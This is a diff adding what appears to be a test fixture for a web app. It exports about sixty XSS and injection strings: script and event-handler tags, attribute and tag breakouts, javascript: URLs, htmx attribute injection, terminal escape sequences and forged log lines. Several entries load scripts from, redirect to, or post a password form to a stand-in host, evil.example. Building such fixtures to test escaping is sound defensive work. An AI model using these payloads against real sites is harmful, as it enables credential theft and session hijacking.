@@ -1,0 +1,73 @@
+/** Sixty ways out of a text, an attribute, a tag, an address, a comment, a line of a log. */
+const RUN = 'window.hacked=1';
+
+const TAGS = [
+  `<script>${RUN}</script>`,
+  `<ScRiPt>${RUN}</sCrIpT>`,
+  `<script src=//evil.example/x.js></script>`,
+  `<script/x>${RUN}</script>`,
+  `<<script>${RUN}//<</script>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<img src=x onerror=${RUN}>`,
+  `<img src=x:x onerror="${RUN}">`,
+  `<img/src/onerror=${RUN}>`,
+  `<svg onload=${RUN}>`,
+  `<svg/onload=${RUN}>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
+  `<math><mi//xlink:href="javascript:${RUN}">x`,
+  `<body onload=${RUN}>`,
+  `<iframe srcdoc="<script>parent.hacked=1</script>">`,
+  `<iframe src=javascript:parent.hacked=1>`,
+  `<object data="javascript:${RUN}">`,
+  `<embed src="javascript:${RUN}">`,
+  `<base href="//evil.example/">`,
+  `<meta http-equiv=refresh content="0;url=//evil.example">`,
+  `<link rel=stylesheet href=//evil.example/x.css>`,
+  `<style>*{background:url(//evil.example)}</style>`,
+  `<form action=//evil.example><input name=password autofocus>`,
+  `<details open ontoggle=${RUN}>`,
+  `<video><source onerror=${RUN}></video>`,
+  `<audio src=x onerror=${RUN}>`,
+  `<marquee onstart=${RUN}>x</marquee>`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<a href="javascript:${RUN}">x</a>`,
+  `<button formaction="javascript:${RUN}">x</button>`,
+  `<template><script>${RUN}</script></template>`,
+];
+const WAYS_OUT = [
+  `"><script>${RUN}</script>`,
+  `'><script>${RUN}</script>`,
+  `" onmouseover="${RUN}`,
+  `' onmouseover='${RUN}`,
+  `" autofocus onfocus="${RUN}" x="`,
+  `x onfocus=${RUN} autofocus`,
+  `"/><img src=x onerror=${RUN}>`,
+  `</textarea><script>${RUN}</script>`,
+  `</title><script>${RUN}</script>`,
+  `</script><script>${RUN}</script>`,
+  `</style><script>${RUN}</script>`,
+  `</svg><script>${RUN}</script>`,
+  `</option></select><img src=x onerror=${RUN}>`,
+  `</td></tr></table><img src=x onerror=${RUN}>`,
+  `--><script>${RUN}</script><!--`,
+  `<!--<img src="--><img src=x onerror=${RUN}//">`,
+  `]]><script>${RUN}</script>`,
+  '`-alert(1)-`${window.hacked=1}',
+];
+const HTMX = [
+  `<div hx-get="/api/bots" hx-trigger="load"></div>`,
+  `<hx-partial hx-target="#main" hx-swap="innerHTML"><b>hacked</b></hx-partial>`,
+  `" hx-on:click="${RUN}`,
+  `" hx-get="//evil.example" hx-trigger="load`,
+];
+const OTHERS = [
+  `javascript:${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `\u001b[31m<b>red</b>\u001b[0m\u001b]8;;javascript:${RUN}\u0007x`,
+  `x\r\n2024-03-07T00:00:00.000Z error <b>forged</b>\n{"level":50,"msg":"forged"}`,
+  `\u202e<script>${RUN}</script>\u2028\u0085`,
+];
+
+export const HOSTILE_TEXTS: readonly string[] = [...TAGS, ...WAYS_OUT, ...HTMX, ...OTHERS];
